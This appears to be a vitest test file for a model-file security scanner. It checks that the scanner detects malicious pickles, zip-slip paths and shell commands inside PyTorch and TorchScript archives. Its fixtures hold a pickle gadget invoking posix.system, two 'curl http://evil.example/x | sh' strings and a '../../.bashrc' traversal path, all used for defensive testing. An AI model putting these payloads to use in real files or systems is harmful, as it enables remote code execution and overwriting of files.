// PyTorch zip checkpoints and TorchScript archives through the public scan(): which members go to the
// pickle scanner (with the 'pickle' hint), which are never read (storages), what is noted, and that
// the generic zip checks still run.
import { afterEach, describe, expect, it, vi } from 'vitest';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { SCANNERS } from '../../src/engine/registry';

// The registry's pickle entry: its sniff is what the orchestrator calls (scanners load lazily, registry.ts).
const pickleEntry = SCANNERS.find((s) => s.id === 'pickle')!;
import { buildZip } from '../builders/zip';
import { op, pickle, recordingSource, torchZip } from '../builders/pytorch';

const find = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const children = (r: FileReport) => r.nodes.slice(1).map((n) => n.path.slice(1).join(' > '));
const atLeastWarning = (r: FileReport) => r.findings.filter((f) => f.severity === 'critical' || f.severity === 'warning');
/** posix.system('echo pwned'): an inert stand-in for a gadget. */
const EVIL = pickle(op.global('posix', 'system'), op.str('echo pwned'), [0x85], op.reduce());

/** The hint each node was offered to the pickle sniffer with (spied, since hints are not in the report). */
function spyHints(): Map<string, string | undefined> {
  const hints = new Map<string, string | undefined>();
  const original = pickleEntry.sniff.bind(pickleEntry);
  vi.spyOn(pickleEntry, 'sniff').mockImplementation((head) => { hints.set(head.name, head.hint); return original(head); });
  return hints;
}
afterEach(() => { vi.restoreAllMocks(); });

describe('pytorch zip: a torch.save archive', () => {
  it('notes the layout, scans data.pkl as a pickle and never reads the storages', async () => {
    const storage = new Uint8Array(4 * 1024 * 1024).fill(0x41);
    const bytes = torchZip({ storages: { '0': storage, '1': new Uint8Array(24) } });
    const rec = recordingSource(bytes, 'model.pt');
    const hints = spyHints();
    const r = await scan(rec.source);
    expect(r.format).toBe('pytorch');
    expect(r.complete).toBe(true);
    expect(atLeastWarning(r)).toEqual([]);
    expect(r.nodes[0]!.notes).toMatchObject({ format: 'pytorch-zip', archiveName: 'archive', version: 3,
      storages: 2, storageBytes: storage.length + 24, pickles: ['archive/data.pkl'] });
    expect(children(r)).toEqual(['archive/data.pkl']);
    expect(hints.get('data.pkl')).toBe('pickle');
    // Only the node's 64 KiB head and the listing's tail read (EOCD search: last 64 KiB) reach into it.
    const start = Buffer.from(bytes).indexOf(Buffer.from(storage.subarray(0, 64)));
    expect(start).toBeGreaterThan(0);
    expect(rec.touched(64 * 1024, start + storage.length - 70 * 1024)).toBe(false);
    expect(rec.bytesRead()).toBeLessThan(200 * 1024);
  });

  it('recognises any top folder name and a pickle that is not data.pkl (CRITICAL at its path)', async () => {
    const bytes = torchZip({ top: 'resnet50-v2', extra: [{ name: 'resnet50-v2/extra/state.pkl', data: EVIL }] });
    const hints = spyHints();
    const r = await scan(fromBytes(bytes, 'resnet.pth'));
    expect(r.format).toBe('pytorch');
    expect(r.nodes[0]!.notes).toMatchObject({ archiveName: 'resnet50-v2', pickles: ['resnet50-v2/data.pkl', 'resnet50-v2/extra/state.pkl'] });
    expect(hints.get('state.pkl')).toBe('pickle');
    expect(r.findings.some((f) => f.severity === 'critical' && f.location.path.join('>') === 'resnet.pth>resnet50-v2/extra/state.pkl')).toBe(true);
  });

  it('finds a pickle hidden in a member with no pickle name, by content', async () => {
    const r = await scan(fromBytes(torchZip({ extra: [{ name: 'archive/notes.txt', data: EVIL }] }), 'model.pt'));
    expect(r.nodes.find((n) => n.path[1] === 'archive/notes.txt')?.format).toBe('pickle');
    expect(r.findings.some((f) => f.severity === 'critical' && f.location.path[1] === 'archive/notes.txt')).toBe(true);
  });

  it('scans a "version" record that is not a short number instead of trusting its name', async () => {
    const r = await scan(fromBytes(torchZip({ version: 'x'.repeat(40) + '\n#!/bin/sh\ncurl http://evil.example/x | sh\n' }), 'model.pt'));
    expect(children(r)).toContain('archive/version');
    expect(r.nodes[0]!.notes?.version).toBeUndefined();
    expect(find(r, 'strings/shell-command').length).toBeGreaterThan(0);
  });

  it('still runs the zip checks: a zip-slip member in a checkpoint is CRITICAL at the archive', async () => {
    const r = await scan(fromBytes(torchZip({ extra: [{ name: 'archive/../../.bashrc', data: 'echo hi\n' }] }), 'model.pt'));
    expect(r.format).toBe('pytorch');
    expect(find(r, 'archive/path-traversal')[0]).toMatchObject({ severity: 'critical', location: { path: ['model.pt'] } });
  });

  it('claims a .pt zip whose first member is under a top folder even with an unusual name', async () => {
    const bytes = buildZip({ members: [{ name: 'ckpt/weights/blob', data: 'x' }, { name: 'ckpt/data.pkl', data: pickle(op.emptyDict()) }] });
    expect((await scan(fromBytes(bytes, 'model.pt'))).format).toBe('pytorch');
    expect((await scan(fromBytes(bytes, 'bundle.zip'))).format).toBe('zip');
  });

  it('leaves ordinary zips to the zip scanner', async () => {
    const r = await scan(fromBytes(buildZip({ members: [{ name: 'readme.txt', data: 'hello' }] }), 'x.zip'));
    expect(r.format).toBe('zip');
  });
});

describe('pytorch zip: TorchScript archives', () => {
  const code = {
    '__torch__.py': 'class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n    return torch.relu(x)\n',
    '__torch__/helpers.py': 'def scale(x: Tensor) -> Tensor:\n  return torch.mul(x, 2)\n',
  };

  it('reports a scripted module as INFO with its entry points and scans its code as text', async () => {
    const hints = spyHints();
    const r = await scan(fromBytes(torchZip({ top: 'net', code }), 'net.pt'));
    expect(r.nodes[0]!.notes).toMatchObject({ format: 'torchscript', archiveName: 'net' });
    const [info] = find(r, 'pytorch/torchscript-module');
    expect(info).toMatchObject({ severity: 'info', location: { path: ['net.pt'] } });
    expect(info!.message).toContain('__torch__.forward');
    expect(info!.message).toContain('__torch__.helpers.scale');
    expect(children(r)).toEqual(expect.arrayContaining(['net/code/__torch__.py', 'net/constants.pkl']));
    expect(hints.get('constants.pkl')).toBe('pickle');
    expect(hints.get('__torch__.py')).toBe('torchscript-source');
    expect(atLeastWarning(r)).toEqual([]);
  });

  it('flags TorchScript source that calls os.system, at the code member', async () => {
    const evil = { '__torch__.py': 'def forward(self, x):\n    os.system("curl http://evil.example/x | sh")\n    return x\n' };
    const r = await scan(fromBytes(torchZip({ code: evil }), 'model.pt'));
    const hits = [...find(r, 'strings/python-code'), ...find(r, 'strings/shell-command')];
    expect(hits.length).toBeGreaterThan(0);
    expect(hits[0]!.location.path).toEqual(['model.pt', 'archive/code/__torch__.py']);
  });

  it('sniffs torch.jit.save archives, whose first member is a storage', async () => {
    const bytes = buildZip({ members: [{ name: 'm/data/0', data: new Uint8Array(8) }, { name: 'm/data.pkl', data: pickle(op.emptyDict()) },
      { name: 'm/code/__torch__.py', data: code['__torch__.py'] }, { name: 'm/version', data: '3\n' }] });
    const r = await scan(fromBytes(bytes, 'scripted.bin'));
    expect(r.format).toBe('pytorch');
    expect(r.nodes[0]!.notes).toMatchObject({ format: 'torchscript', storages: 1 });
  });
});
